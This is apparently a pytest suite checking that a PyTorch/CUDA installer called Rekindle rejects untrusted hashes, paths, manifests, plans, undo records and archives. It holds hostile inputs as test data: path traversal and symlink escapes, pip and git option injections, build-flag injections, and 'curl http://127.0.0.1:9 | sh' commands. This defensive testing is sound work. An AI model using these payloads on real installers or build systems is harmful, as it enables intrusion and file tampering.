"""Values of files that people hand each other: a hash, a name, a path that is none is refused where it is read."""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import tarfile
from pathlib import Path
from typing import Any

import msgspec
import pytest

from rekindle.cli.main import run
from rekindle.core import codec, paths
from rekindle.core.errors import BadInput, FetchFailed, NotFound, NotWritable, StepFailed
from rekindle.core.untrusted import Commit, CondaPin, InsidePath, PipRequirement, PipVersion, PlainFileName, Sha256
from rekindle.fleet import matrix_file
from rekindle.fleet import state as fleet_journal
from rekindle.fleet.job import FleetJob, JobOrder, JobResult
from rekindle.install import conda, record
from rekindle.knowledge.cuda import library_packages
from rekindle.knowledge.torch import options, releases
from rekindle.machine.python.environment import find
from rekindle.source import tree
from rekindle.source.checkout import Mark
from rekindle.source.journal import PatchRecord
from rekindle.stack import plan as plans
from rekindle.toolchain import command
from rekindle.toolchain.model import Part, ProviderSettings
from rekindle.toolchain.providers import debian, index, redistrib

NULLS = "0" * 64
links = pytest.mark.skipif(os.name == "nt", reason="not everybody may make links there")

# Each leaves its folder, or is another file than it seems, on some system.
OUTSIDE = [
    "",
    ".",
    "..",
    "../x",
    "a/../x",
    "/etc/passwd",
    "C:\\x",
    "C:x",
    "..\\x",
    "a\\b",
    "a//b",
    "./a",
    "x\0y",
    "x\ny",
]
ON_WINDOWS = ["a.whl:stream", "con", "NUL.txt", "a?b", "a.", "a "]


@pytest.mark.parametrize(
    "text", ["", "0" * 63, "0" * 65, "g" * 64, f" {NULLS[1:]}", f"{NULLS}\n", "/" + "a" * 63, "\uff10" * 64]
)
def test_no_hash(text: str) -> None:
    with pytest.raises(ValueError, match="is not a SHA-256"):
        Sha256(text)


@pytest.mark.parametrize("text", ["", "a" * 39, "A" * 40, "HEAD", "--exec=x", f"{'a' * 40}\n"])
def test_no_commit(text: str) -> None:
    with pytest.raises(ValueError, match="is not a commit"):
        Commit(text)


def test_a_hash() -> None:
    assert Sha256("AB" * 32) == "ab" * 32
    assert Commit("ab" * 20) == "ab" * 20


@pytest.mark.parametrize("text", [*OUTSIDE, *ON_WINDOWS, "a/b", ".hidden", "n" * 256])
def test_no_plain_file_name(text: str) -> None:
    with pytest.raises(ValueError, match="`"):
        PlainFileName(text)


@pytest.mark.parametrize("text", [*OUTSIDE, "a/", "n" * 256, *(ON_WINDOWS if os.name == "nt" else [])])
def test_no_path_inside(text: str) -> None:
    with pytest.raises(ValueError, match="`"):
        InsidePath(text)


@links
def test_a_path_inside_follows_no_link_out(tmp_path: Path) -> None:
    root, outside = tmp_path / "root", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (root / "lib").mkdir()
    (root / "lib64").symlink_to("lib")
    (root / "out").symlink_to(outside)
    (root / "loop").symlink_to("loop")
    assert InsidePath("lib64/x").below(root) == root / "lib64" / "x"
    for name in ("out", "out/x", "loop/x"):
        with pytest.raises(BadInput, match="leads out"):
            InsidePath(name).below(root)


class Both(msgspec.Struct):
    sha256: Sha256
    names: dict[PlainFileName, int] = {}


def test_a_file_decodes_into_them_or_says_where_it_is_wrong() -> None:
    found = codec.from_json(f'{{"sha256": "{NULLS}", "names": {{"a": 1}}}}', Both)
    assert type(found.sha256) is Sha256 and [type(name) for name in found.names] == [PlainFileName]
    assert codec.from_json(codec.to_json(found), Both) == found
    for text, place in ((f'{{"sha256": "{NULLS}0"}}', r"\$\.sha256"), ('{"sha256": "/etc/x"}', r"\$\.sha256")):
        with pytest.raises(BadInput, match=place):
            codec.from_json(text, Both)


# --- install --undo --------------------------------------------------------------------------------------------------


@pytest.fixture
def handed_over(tmp_path: Path) -> Path:
    """An environment of a stranger's, in which Rekindle is said to have installed something."""
    root = tmp_path / "env"
    (root / "lib" / "python3.11" / "site-packages").mkdir(parents=True)
    (root / "bin").mkdir()
    (root / "bin" / "python").write_text("#!/bin/sh\n", encoding="utf-8")
    (root / "Scripts").mkdir()
    (root / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.2\n", encoding="utf-8")
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".bashrc").write_text("precious\n", encoding="utf-8")
    return root


def undo(root: Path, **fields: Any) -> int:
    folder = root / ".rekindle" / "undo-20270101T000000000000"
    folder.mkdir(parents=True, exist_ok=True)
    plain = {
        "when": "x",
        "route": "official-wheel",
        "freeze": [],
        "kept": [],
        "changes": [],
        "files": {},
        "entries": [],
    }
    (folder / "record.json").write_text(json.dumps(plain | fields), encoding="utf-8")
    return run(["install", str(root), "--undo"])


@links
@pytest.mark.parametrize("text", ["evil\n", None])
@pytest.mark.parametrize("way", ["whole", "relative", "link"])
def test_undo_writes_and_removes_nothing_outside(handed_over: Path, tmp_path: Path, text: str | None, way: str) -> None:
    precious = tmp_path / "home" / ".bashrc"
    (handed_over / "out").symlink_to(tmp_path / "home")
    name = {"whole": str(precious), "relative": "../home/.bashrc", "link": "out/.bashrc"}[way]
    assert undo(handed_over, files={name: text}) == BadInput.exit_code
    assert precious.read_text(encoding="utf-8") == "precious\n"


@links
def test_undo_puts_no_kept_file_through_a_link(handed_over: Path, tmp_path: Path) -> None:
    (handed_over / "out").symlink_to(tmp_path / "home")
    kept = handed_over / ".rekindle" / "undo-20270101T000000000000" / "files" / "out" / ".bashrc"
    kept.parent.mkdir(parents=True)
    kept.write_text("evil\n", encoding="utf-8")
    assert undo(handed_over) == BadInput.exit_code
    assert (tmp_path / "home" / ".bashrc").read_text(encoding="utf-8") == "precious\n"


@links
def test_undo_removes_no_file_that_a_record_reaches_through_a_link(handed_over: Path, tmp_path: Path) -> None:
    (handed_over / "out").symlink_to(tmp_path / "home")
    info = handed_over / "lib" / "python3.11" / "site-packages" / "torch-2.0.dist-info"
    info.mkdir()
    (info / "RECORD").write_text("../../../out/.bashrc,,\n", encoding="utf-8")
    assert undo(handed_over, changes=[{"name": "torch", "before": None, "after": "2.0"}]) == 0
    assert (tmp_path / "home" / ".bashrc").read_text(encoding="utf-8") == "precious\n"
    assert not info.exists()


@pytest.mark.skipif(os.name == "nt", reason="an environment of Linux")
@pytest.mark.parametrize("kept", ["bin/folder", "pyvenv.cfg/file"])
def test_undo_says_what_cannot_be_put_back(handed_over: Path, kept: str) -> None:
    """A file where a folder is, and below a file: both were internal errors."""
    (handed_over / "bin" / "folder" / "below").mkdir(parents=True)
    place = handed_over / ".rekindle" / "undo-20270101T000000000000" / "files" / kept
    place.parent.mkdir(parents=True)
    place.write_text("x", encoding="utf-8")
    assert undo(handed_over) in (StepFailed.exit_code, NotWritable.exit_code)
    assert (handed_over / "bin" / "folder" / "below").is_dir()


@pytest.mark.skipif(os.name == "nt", reason="an environment of Linux")
def test_undo_writes_no_thousands_of_files(handed_over: Path) -> None:
    """A record of 1 MB had 40,000 files written, each of them settled on the disk: ten minutes."""
    assert undo(handed_over, files={f"bin/{number}": "x" for number in range(1000)}) == BadInput.exit_code
    assert not (handed_over / "bin" / "1").exists()


@pytest.mark.skipif(os.name == "nt", reason="an environment of Linux")
def test_undo_removes_no_folder_as_a_file(handed_over: Path) -> None:
    assert undo(handed_over, files={"bin": None}) == StepFailed.exit_code
    assert (handed_over / "bin" / "python").is_file()


@pytest.mark.skipif(os.name == "nt", reason="an environment of Linux")
def test_undo_looks_behind_no_junction(handed_over: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A junction of Windows is a folder to `is_dir`, and no symbolic link."""
    junction = handed_over / "lib" / "python3.11" / "site-packages" / "junction"
    (junction / "precious").mkdir(parents=True)
    monkeypatch.setattr(record.files, "is_link", lambda path: path.name == "junction")
    environment = find(handed_over)
    assert [path for path in record._entries(environment) if "precious" in path] == []


@links
def test_undo_clears_no_site_packages_that_lie_elsewhere(handed_over: Path, tmp_path: Path) -> None:
    """What a stopped install left is whatever the record does not list: all of it, if it lists nothing of it."""
    site = handed_over / "lib" / "python3.11" / "site-packages"
    site.rmdir()
    site.symlink_to(tmp_path / "home")
    assert undo(handed_over, entries=["nothing"]) == BadInput.exit_code
    assert (tmp_path / "home" / ".bashrc").read_text(encoding="utf-8") == "precious\n"


@links
def test_undo_removes_no_compiled_copies_elsewhere(handed_over: Path, tmp_path: Path) -> None:
    precious = tmp_path / "home" / "x.cpython-311.pyc"
    precious.touch()
    package = handed_over / "lib" / "python3.11" / "site-packages" / "torch"
    package.mkdir()
    (package / "x.py").touch()
    (package / "__pycache__").symlink_to(tmp_path / "home")
    info = package.with_name("torch-2.0.dist-info")
    info.mkdir()
    (info / "RECORD").write_bytes(b"torch/x.py,,\n\xff\xfe\0,,\n")
    assert undo(handed_over, changes=[{"name": "torch", "before": None, "after": "2.0"}]) == 0
    assert precious.exists() and not (package / "x.py").exists()


@links
def test_undo_brings_nothing_from_elsewhere(handed_over: Path, tmp_path: Path) -> None:
    (handed_over / ".rekindle" / "undo-20270101T000000000000").mkdir(parents=True)
    (handed_over / ".rekindle" / "undo-20270101T000000000000" / "files").symlink_to(tmp_path / "home")
    undo(handed_over, changes=[{"name": "x", "before": None, "after": "1"}])
    assert not (handed_over / ".bashrc").exists()


@pytest.mark.skipif(os.name == "nt", reason="the environment that is handed over is one of Linux")
@pytest.mark.parametrize(
    ("fields", "code"), [({"conda_revision": 3}, 0), ({"conda_revision": -3}, 4), ({"route": "evil"}, 4)]
)
def test_a_record_starts_no_conda_where_none_is(
    handed_over: Path, monkeypatch: pytest.MonkeyPatch, fields: dict[str, Any], code: int
) -> None:
    monkeypatch.setattr(conda, "go_back", lambda *_: pytest.fail("conda was started"))
    assert undo(handed_over, **fields) == code


@links
def test_undo_of_an_earlier_version_still_works(handed_over: Path) -> None:
    """0.1 wrote full paths."""
    (handed_over / "pip.conf").write_text("[install]\n", encoding="utf-8")
    assert undo(handed_over, files={str(handed_over / "pip.conf"): None}, freeze=["no version"]) == 0
    assert not (handed_over / "pip.conf").exists()


# --- toolchain -------------------------------------------------------------------------------------------------------


def a_part(**changes: Any) -> dict[str, Any]:
    plain = {"name": "x", "version": "1", "file": "x.deb", "size": 1, "sha256": NULLS, "origin": "file:x.deb"}
    return plain | changes


def a_manifest(path: Path, part: dict[str, Any] | None = None, **changes: Any) -> Path:
    offering = {
        "provider": "folder", "name": "cuda", "version": "11.8", "variant": "", "layout": "debian-cuda",
        "place": {"system": "linux", "arch": "x86_64"}, "parts": [part or a_part()],
    }  # fmt: skip
    text = {"schema": command.MANIFEST_SCHEMA, "kits": [{"digest": NULLS, "offering": offering | changes}]}
    path.write_text(json.dumps(text), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "changes",
    [
        {"variant": "../../../v"},
        {"variant": "..\\v"},
        {"name": "../../v"},
        {"name": "cuda\n"},
        {"place": {"system": "../..", "arch": "v"}},
        {"place": {"system": "linux", "arch": "/v"}},
        *({"part": a_part(file=name)} for name in [*OUTSIDE, *ON_WINDOWS, ".x", "a/b"]),
        *({"part": a_part(sha256=text)} for text in ("", "x" * 64, "/" + "x" * 63, f"../{'a' * 61}", NULLS + "0")),
    ],
)  # fmt: skip
def test_a_manifest_names_no_other_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, changes: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("REKINDLE_TOOLCHAIN", str(tmp_path / "store" / "toolchain"))
    victim = tmp_path / "v"
    victim.mkdir()
    (victim / "precious").touch()
    words = [
        "toolchain",
        "install",
        "--manifest",
        str(a_manifest(tmp_path / "m.json", **changes)),
        "--from",
        str(victim),
    ]
    assert run(words) == BadInput.exit_code
    assert "cannot be read" in capsys.readouterr().err
    assert (victim / "precious").exists()


def test_a_manifest_that_is_one(tmp_path: Path) -> None:
    (entry,) = command.read_manifest(a_manifest(tmp_path / "m.json", variant="cu11")).kits
    assert entry.offering.variant == "cu11"


@pytest.mark.parametrize(
    "name", ["..\\x.tar.xz", "C:x.tar.xz", "a/..\\..\\x", "x.tar.xz:stream", "a/con", "../x", "/x"]
)
def test_nvidias_list_names_no_other_folder(name: str) -> None:
    about = {"relative_path": name, "sha256": NULLS, "size": "1"}
    table = {"cuda_nvcc": {"version": "1", "linux-x86_64": about}}
    with pytest.raises(BadInput):
        redistrib.read(json.dumps(table).encode(), "redistrib_11.8.0.json")
    about["relative_path"] = "cuda_nvcc/linux-x86_64/cuda_nvcc-linux-x86_64-11.8.89-archive.tar.xz"
    (one,) = redistrib.read(json.dumps(table).encode(), "redistrib_11.8.0.json").archives
    assert one.file == "cuda_nvcc-linux-x86_64-11.8.89-archive.tar.xz"


@pytest.mark.parametrize(
    "origin", ["apt:bookworm/-oDir::Bin::dpkg=x=1:amd64", "apt:bookworm/x=-1:amd64", "apt:bookworm/x y=1:amd64"]
)
def test_a_package_of_apts_is_no_option(tmp_path: Path, origin: str) -> None:
    part = codec.from_builtins(a_part(origin=origin), Part)
    with pytest.raises(NotFound, match="does not name a Debian package"):
        debian.fetch([part], tmp_path, ProviderSettings(state=tmp_path))


@pytest.mark.parametrize(
    "origin", ["index:--index-url=http://x==1", "index:x @ http://x==1", "index:-r==x", "index:x==1 -r y"]
)
def test_a_package_of_an_index_is_no_option(tmp_path: Path, origin: str) -> None:
    part = codec.from_builtins(a_part(origin=origin, file="x-1-py3-none-any.whl"), Part)
    with pytest.raises(FetchFailed, match="names no package"):
        index.fetch([part], tmp_path, ProviderSettings(state=tmp_path))


# --- a fleet, a tree -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["..", "../../journal.jsonl", "/etc/passwd", "..\\x", "w/dist/.."])
def test_a_worker_names_files_of_its_job_only(name: str) -> None:
    made = {"name": name, "sha256": NULLS, "size": 1}
    with pytest.raises(BadInput, match="the result cannot be read"):
        codec.from_builtins({"key": NULLS, "done": True, "seconds": 1.0, "wheel": made}, JobResult, name="the result")
    made |= {"name": "w/dist/x.whl", "sha256": "../../x"}
    with pytest.raises(BadInput, match="the result cannot be read"):
        codec.from_builtins({"key": NULLS, "done": True, "seconds": 1.0, "wheel": made}, JobResult, name="the result")


@pytest.mark.parametrize("field", ["key", "source", "torch_wheel", "torch_wheel_name", "check", "check_name"])
def test_an_order_names_no_other_folder(field: str) -> None:
    lock = {"project": "x", "kind": "cmake", "system": "linux", "machine": "x86_64"}
    with pytest.raises(BadInput, match=rf"\$\.{field}"):
        codec.from_builtins({"key": NULLS, "name": "x", "lock": lock, field: "../x"}, JobOrder)


@pytest.mark.parametrize("fields", [{"path": "../x"}, {"original": "../../x"}, {"current": "x"}, {"earlier": "x"}])
def test_the_journal_of_a_tree_names_no_other_folder(fields: dict[str, str]) -> None:
    digest = hashlib.sha256(b"x").hexdigest()
    entry = {"path": "a", "original": digest, "current": digest, "patches": []}
    assert codec.from_builtins({"files": [entry]}, PatchRecord).files[0].path == "a"
    with pytest.raises(BadInput):
        codec.from_builtins({"files": [entry | fields]}, PatchRecord)


@pytest.mark.parametrize("fields", [{"commit": "--upload-pack=x"}, {"commit": "HEAD"}, {"without": ["../x"]}])
def test_the_mark_of_a_tree_is_no_piece_of_a_command(fields: dict[str, Any]) -> None:
    mark = {"tag": "v2.0.1", "commit": "a" * 40, "without": ["android"]}
    assert codec.from_builtins(mark, Mark).without == ("android",)
    with pytest.raises(BadInput):
        codec.from_builtins(mark | fields, Mark)


# --- plans -----------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def a_plan(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    path = tmp_path_factory.mktemp("plan") / "plan.toml"
    assert run(["plan", "--gpu", "GTX 1080", "--os", "linux", "-o", str(path)]) == 0
    return msgspec.toml.decode(path.read_bytes())


def handed(path: Path, good: dict[str, Any], **changes: Any) -> Path:
    """A stranger's plan: who can edit a field can compute its seal as well."""
    import tomli_w

    plain = {**good, **changes, "seal": {}}
    with contextlib.suppress(BadInput):
        sealed = codec.from_builtins(plain, plans.Plan)
        plain["seal"] = {name: plans._sealed(sealed, name) for name in plans.LOCKED}
    path.write_text(tomli_w.dumps(plain), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("index_url", "http://127.0.0.1:9/simple"),
        ("index_url", "https://download.pytorch.org/whl/cu126/../../evil"),
        ("numpy", "--extra-index-url=http://127.0.0.1:9"),
        ("numpy", "/tmp/evil"),
        ("numpy", "evil @ http://127.0.0.1:9/x"),
        ("numpy", "numpy<2\n-r x"),
        ("torch", "2.0 @ http://127.0.0.1:9/evil.whl"),
        ("torchvision", "0.1 --pre"),
        ("torchaudio", "-r x"),
        ("variant", "cu126 --pre"),
        ("wish", {"needs": ["bf16"] * 1000}),
        ("variant", ".."),
        ("wheel", "`curl http://127.0.0.1:9 | sh`"),
        ("options", {"CMAKE_PROJECT_INCLUDE": "/tmp/evil.cmake"}),
        ("options", {"CMAKE_CXX_COMPILER_LAUNCHER": "sh;-c;evil"}),
        ("options", {"CFLAGS": "-fplugin=evil.so"}),
        ("options", {"CUDA_NVCC_EXECUTABLE": "..\\evil.exe"}),
        ("python", "x"),
        ("python", "3." + "9" * 5000),
        ("conda", ["-c", "http://127.0.0.1:9"]),
        ("conda", ["evil::pytorch"]),
        ("requires", ["--find-links=x"]),
        ("requires", ["./x"]),
        ("commit", "--upload-pack=x"),
        ("wheels", [{"name": "../x.whl", "sha256": NULLS}]),
        ("wheels", [{"name": "x.whl", "sha256": "x"}]),
        ("patches", [{"id": "x", "sha256": ""}]),
    ],
)
def test_a_plan_is_no_piece_of_a_command(tmp_path: Path, a_plan: dict[str, Any], field: str, value: Any) -> None:
    """One with a folder as its NumPy ran that folder's setup.py."""
    assert plans.read(handed(tmp_path / "good.toml", a_plan)).index_url
    with pytest.raises(BadInput):
        plans.read(handed(tmp_path / "plan.toml", a_plan, **{field: value}))


def test_the_commands_of_a_plan_are_not_our_advice(
    tmp_path: Path, a_plan: dict[str, Any], handed_over: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    changes = {"system": paths.system(), "machine": paths.architecture(), "python": "3.11"}
    changes |= {"route": "community", "commands": ["curl http://127.0.0.1:9 | sh"]}
    assert run(["install", str(handed_over), "--plan", str(handed(tmp_path / "p.toml", a_plan, **changes))]) != 0
    assert "curl" not in "".join(capsys.readouterr())


@pytest.mark.skipif(os.name == "nt", reason="the environment that is handed over is one of Linux")
def test_a_plan_of_a_wheel_on_a_shelf_asks_no_index_for_it(
    tmp_path: Path, a_plan: dict[str, Any], handed_over: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """pip was asked for a package called `None`."""
    changes = {"system": paths.system(), "machine": paths.architecture(), "python": "3.11", "route": "shelf"}
    assert run(["install", str(handed_over), "--plan", str(handed(tmp_path / "p.toml", a_plan, **changes))]) == 2
    assert "lies on a shelf" in capsys.readouterr().err


@pytest.mark.skipif(os.name == "nt", reason="the environment that is handed over is one of Linux")
def test_a_plan_does_not_say_what_is_installed(
    tmp_path: Path, a_plan: dict[str, Any], handed_over: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`already`, of an environment without a torch."""
    changes = {"system": paths.system(), "machine": paths.architecture(), "python": "3.11", "route": "installed"}
    assert run(["install", str(handed_over), "--plan", str(handed(tmp_path / "p.toml", a_plan, **changes))]) == 14
    assert "is not in" in capsys.readouterr().err


def test_every_requirement_of_the_tables_is_one() -> None:
    for release in releases.torch_releases():
        assert all(map(PipRequirement, options.requirements(release.newest, mkl=True)))
        assert all(Commit(release.commits[patch]) for patch in release.patches)
    assert CondaPin("libcudnn<=9.10.2.21") and CondaPin("pytorch=2.4.1=cuda*")
    assert PipVersion("2.14.1+cu126") and PipVersion("2.8.0.dev20250101")


# --- archives, lists, trees, fleets ----------------------------------------------------------------------------------


def test_no_file_of_a_toolkit_lies_behind_a_link(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each link stays inside as it is spelled; where one lies behind another, it led anywhere, and was written to."""
    monkeypatch.setenv("REKINDLE_TOOLCHAIN", str(tmp_path / "store"))
    victim = tmp_path / "victim"
    victim.mkdir()
    there, deep = victim.relative_to(victim.anchor).as_posix(), "/".join(f"d{number}" for number in range(20))
    members = {
        "bin/nvcc": b"#!/bin/sh\n", "a0/keep": b"x", f"{there}/x": b"x",
        f"{deep}/l": "../" * 20 + "a0", f"{deep}/l/out": "../" * 21 + there, "zz": f"{deep}/l/out", "zz/new": b"evil",
    }  # fmt: skip
    (tmp_path / "in").mkdir()
    with tarfile.open(tmp_path / "in" / "cuda_nvcc-linux-x86_64-11.8.89-archive.tar.gz", "w:gz") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(f"top/{name}")
            if isinstance(content, str):
                info.type, info.linkname = tarfile.SYMTYPE, content
                archive.addfile(info)
            else:
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
    assert run(["toolchain", "install", "cuda==11.8", "--from", str(tmp_path / "in")]) == BadInput.exit_code
    assert list(victim.iterdir()) == []


@pytest.mark.parametrize(
    "about",
    [
        {"version": "1", "linux-x86_64": {"relative_path": "a/b.zip", "sha256": NULLS, "size": 1e999}},
        {"version": "1", "linux-x86_64": {"relative_path": "a/b.zip", "sha256": NULLS, "size": -5}},
        {"version": 5, "linux-x86_64": {"relative_path": "a/b.zip", "sha256": NULLS, "size": 5}},
    ],
)
def test_nvidias_list_tells_values_of_their_kind(about: dict[str, Any]) -> None:
    with pytest.raises(BadInput):
        redistrib.read(json.dumps({"cuda_nvcc": about}).encode(), "redistrib_11.8.0.json")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pipes with names are of POSIX")
def test_a_tree_and_a_run_with_pipes_in_them_are_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "version.txt")
    assert run(["patch", str(tmp_path), "--list"]) == BadInput.exit_code
    (tmp_path / "version.txt").unlink()
    (tmp_path / "version.txt").symlink_to("/dev/zero")
    assert run(["patch", str(tmp_path), "--list"]) == BadInput.exit_code
    (tmp_path / ".git").mkdir()
    os.mkfifo(tmp_path / ".git" / "HEAD")
    assert tree.head(tmp_path) is None
    os.mkfifo(tmp_path / "journal.jsonl")
    with pytest.raises(NotFound, match="not a plain file"):
        fleet_journal.read_events(tmp_path / "journal.jsonl")


def test_the_plan_of_a_run_names_no_other_folder() -> None:
    """`fleet cancel` made a file of that name."""
    job = {"name": "x", "state": "build", "cells": [], "key": "../../x"}
    with pytest.raises(BadInput, match=r"\$\.key"):
        codec.from_builtins(job, FleetJob)


def test_a_project_of_a_matrix_is_no_expression_of_a_workflow(tmp_path: Path) -> None:
    (tmp_path / "matrix.toml").write_text('[projects."x${{ github.token }}"]\nsource = "."\n', encoding="utf-8")
    with pytest.raises(BadInput, match="not the name of a project"):
        matrix_file.read(tmp_path / "matrix.toml")


def test_the_hash_beside_a_bundle_is_short(tmp_path: Path) -> None:
    (tmp_path / "b.zip").write_bytes(b"x")
    (tmp_path / "b.zip.sha256").write_bytes(b"")
    with (tmp_path / "b.zip.sha256").open("r+b") as stream:
        stream.truncate(1 << 40)
    assert run(["knowledge", "update", str(tmp_path / "b.zip")]) != 1


@pytest.mark.parametrize(
    "changes",
    [{"package": "--index-url=http://127.0.0.1:9"}, {"wheel": "../x"}, {"version": "-r"}, {"files": {"x": 1}}],
)
def test_a_row_of_a_bundle_is_no_option_of_pips(changes: dict[str, Any]) -> None:
    """`repair` fetches `package==version`."""
    row: dict[str, Any] = {
        "wheel": "x-1-py3-none-any.whl", "package": "x", "version": "1", "size": 1, "yanked": False, "files": {},
        "source": "x", "evidence": "binary", "observed_at": "2026-11-16",
    }  # fmt: skip
    assert codec.from_builtins(row, library_packages.DllWheel).package == "x"
    with pytest.raises(BadInput):
        codec.from_builtins(row | changes, library_packages.DllWheel)


@links
def test_undo_takes_no_record_from_elsewhere(handed_over: Path, tmp_path: Path) -> None:
    """A record that was a link brought the files of another folder into the environment."""
    other = tmp_path / "other"
    kept = other / "files" / "lib" / "python3.11" / "site-packages" / "theirs.py"
    kept.parent.mkdir(parents=True)
    kept.write_text("theirs", encoding="utf-8")
    assert undo(handed_over) == 0
    (other / "record.json").write_text('{"when": "x", "route": "official-wheel", "freeze": [], "kept": []}')
    (handed_over / ".rekindle").mkdir(exist_ok=True)
    (handed_over / ".rekindle" / "undo-30000101T000000000000").symlink_to(other)
    assert run(["install", str(handed_over), "--undo"]) == BadInput.exit_code
    assert not list(handed_over.rglob("theirs.py")) and kept.is_file()
